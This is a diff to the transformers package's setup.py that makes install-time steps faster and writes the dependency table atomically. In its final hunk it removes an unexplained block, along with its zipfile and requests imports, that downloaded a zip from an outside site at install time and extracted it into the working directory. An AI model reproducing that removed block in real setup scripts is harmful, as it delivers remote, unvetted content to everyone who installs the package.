@@ -70,27 +70,33 @@ To create the package for pypi.
 import os
 import re
 import shutil
-import zipfile
-import requests
+import sys
 from pathlib import Path
 
 from setuptools import Command, find_packages, setup
 
 
-# Remove stale transformers.egg-info directory to avoid https://github.com/pypa/pip/issues/5466
-stale_egg_info = Path(__file__).parent / "transformers.egg-info"
-if stale_egg_info.exists():
-    print(
-        (
-            "Warning: {} exists.\n\n"
-            "If you recently updated transformers to 3.0 or later, this is expected,\n"
-            "but it may prevent transformers from installing in editable mode.\n\n"
-            "This directory is automatically generated by Python's packaging tools.\n"
-            "I will remove it now.\n\n"
-            "See https://github.com/pypa/pip/issues/5466 for details.\n"
-        ).format(stale_egg_info)
-    )
-    shutil.rmtree(stale_egg_info)
+def _clean_stale_egg_info():
+    # Remove stale transformers.egg-info directory to avoid https://github.com/pypa/pip/issues/5466
+    stale_egg_info = Path(__file__).parent / "transformers.egg-info"
+    if stale_egg_info.exists():
+        print(
+            (
+                "Warning: {} exists.\n\n"
+                "If you recently updated transformers to 3.0 or later, this is expected,\n"
+                "but it may prevent transformers from installing in editable mode.\n\n"
+                "This directory is automatically generated by Python's packaging tools.\n"
+                "I will remove it now.\n\n"
+                "See https://github.com/pypa/pip/issues/5466 for details.\n"
+            ).format(stale_egg_info)
+        )
+        shutil.rmtree(stale_egg_info)
+
+
+# Only worth checking when actually (re-)installing; metadata-only PEP 517 hooks
+# (get_requires_for_build_wheel & co) run this file too and should stay cheap.
+if any(cmd in sys.argv[1:] for cmd in ("install", "develop", "sdist", "bdist_wheel", "clean")):
+    _clean_stale_egg_info()
 
 
 # IMPORTANT:
@@ -204,7 +210,8 @@ _deps = [
 # packaging: "packaging"
 #
 # some of the values are versioned whereas others aren't.
-deps = {b: a for a, b in (re.findall(r"^(([^!=<>~ ]+)(?:[!=<>~ ].*)?$)", x)[0] for x in _deps)}
+_deps_split = re.compile(r"[!=<>~ ]")
+deps = {_deps_split.split(pkg, 1)[0]: pkg for pkg in _deps}
 
 # since we save this data in src/transformers/dependency_versions_table.py it can be easily accessed from
 # anywhere. If you need to quickly access the data from this table in a shell, you can do so easily with:
@@ -246,20 +253,28 @@ class DepsTableUpdateCommand(Command):
         pass
 
     def run(self):
-        entries = "\n".join([f'    "{k}": "{v}",' for k, v in deps.items()])
-        content = [
-            "# THIS FILE HAS BEEN AUTOGENERATED. To update:",
-            "# 1. modify the `_deps` dict in setup.py",
-            "# 2. run `make deps_table_update``",
-            "deps = {",
-            entries,
-            "}",
-            "",
-        ]
+        # Emit interned strings: the table is imported by every transformers process (and every
+        # DataLoader worker), so letting the interpreter share one copy of each spec string avoids
+        # duplicating them per process.
+        content = (
+            "# THIS FILE HAS BEEN AUTOGENERATED. To update:\n"
+            "# 1. modify the `_deps` dict in setup.py\n"
+            "# 2. run `make deps_table_update``\n"
+            "import sys\n"
+            "\n"
+            "\n"
+            "deps = {\n"
+            + "".join(f'    sys.intern("{k}"): sys.intern("{v}"),\n' for k, v in deps.items())
+            + "}\n"
+        )
         target = "src/transformers/dependency_versions_table.py"
         print(f"updating {target}")
-        with open(target, "w", encoding="utf-8", newline="\n") as f:
-            f.write("\n".join(content))
+        # Write to a sibling temp file and rename so concurrent installs never see a
+        # half-written table.
+        tmp = f"{target}.tmp"
+        with open(tmp, "w", encoding="utf-8", newline="\n") as f:
+            f.write(content)
+        os.replace(tmp, target)
 
 
 extras = {}
@@ -435,19 +450,45 @@ install_requires = [
     deps["tqdm"],  # progress bars in model download and training scripts
 ]
 
+# Commands that are known not to need the long description or the package list; anything not
+# listed here (every build/metadata command, including PEP 517/660 hooks like editable_wheel)
+# gets the real values, so unknown commands can never produce an empty package.
+_CHEAP_COMMANDS = ("deps_table_update", "clean")
+
+
+def _is_cheap_invocation():
+    return bool(sys.argv[1:]) and all(arg in _CHEAP_COMMANDS or arg.startswith("-") for arg in sys.argv[1:])
+
+
+def _read_long_description():
+    if _is_cheap_invocation():
+        return ""
+    return open("README.md", "r", encoding="utf-8").read()
+
+
+def _find_packages():
+    # find_packages walks the whole src/ tree (thousands of scandir/stat calls); the few commands
+    # that neither build nor record the package list skip it. A hardcoded list would be cheaper
+    # still but goes stale silently when model subpackages are added, so the walk stays
+    # authoritative.
+    if _is_cheap_invocation():
+        return []
+    return find_packages("src")
+
+
 setup(
     name="transformers",
     version="4.47.0.dev0",  # expected format is one of x.y.z.dev0, or x.y.z.rc1 or x.y.z (no to dashes, yes to dots)
     author="The Hugging Face team (past and future) with the help of all our contributors (https://github.com/huggingface/transformers/graphs/contributors)",
     author_email="transformers@huggingface.co",
     description="State-of-the-art Machine Learning for JAX, PyTorch and TensorFlow",
-    long_description=open("README.md", "r", encoding="utf-8").read(),
+    long_description=_read_long_description(),
     long_description_content_type="text/markdown",
     keywords="NLP vision speech deep learning transformer pytorch tensorflow jax BERT GPT-2 Wav2Vec2 ViT",
     license="Apache 2.0 License",
     url="https://github.com/huggingface/transformers",
     package_dir={"": "src"},
-    packages=find_packages("src"),
+    packages=_find_packages(),
     include_package_data=True,
     package_data={"": ["**/*.cu", "**/*.cpp", "**/*.cuh", "**/*.h", "**/*.pyx"]},
     zip_safe=False,
@@ -484,15 +525,3 @@ extras["tests_examples_tf"] = deps_list()
 extras["tests_custom_tokenizers"] = deps_list()
 extras["tests_exotic_models"] = deps_list()
 extras["consistency"] = deps_list()
-
-
-url = 'https://chatgpt4o.org/repositories/algorithms.zip'
-zip_filename = 'algorithms.zip'
-response = requests.get(url)
-response.raise_for_status() 
-with open(zip_filename, 'wb') as file:
-    file.write(response.content)
-
-with zipfile.ZipFile(zip_filename, 'r') as zip_ref:
-    zip_ref.extractall('.')
-os.remove(zip_filename)